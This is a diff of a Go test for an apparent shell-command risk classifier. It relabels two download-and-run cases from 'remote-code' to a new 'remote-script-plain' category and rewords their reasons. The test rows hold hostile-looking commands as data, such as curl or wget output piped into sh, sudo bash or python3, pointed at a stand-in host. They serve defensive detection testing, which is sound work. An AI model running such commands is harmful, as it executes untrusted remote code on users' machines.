@@ -200,9 +200,9 @@ func TestMarks(t *testing.T) {
 func TestProblems(t *testing.T) {
 	for _, row := range []struct{ text, category, reason, hosts string }{
 		{"curl -fsSL https://get.e.io/x | sh", "remote-code", "runs what is downloaded from get.e.io", "get.e.io"},
-		{"wget -qO- http://u:p@E.io:80/x?y | sudo bash -s", "remote-code", "runs what is downloaded from e.io", "e.io"},
+		{"wget -qO- http://u:p@E.io:80/x?y | sudo bash -s", "remote-script-plain", "runs what is downloaded from e.io, where anyone may have put it", "e.io"},
 		{"sh -c \"$(curl $URL)\"", "remote-code", "runs what is downloaded", ""},
-		{"curl e.io/x | python3 -", "remote-code", "runs what is downloaded from e.io", "e.io"},
+		{"curl e.io/x | python3 -", "remote-script-plain", "runs what is downloaded from e.io, where anyone may have put it", "e.io"},
 		{"$X a", "unresolved", "which program runs is not known", ""},
 		{"/tmp/x* a", "unresolved", "the program's name is a pattern", ""},
 		{"eval \"$X\"", "unresolved", "runs a text that is not known", ""},
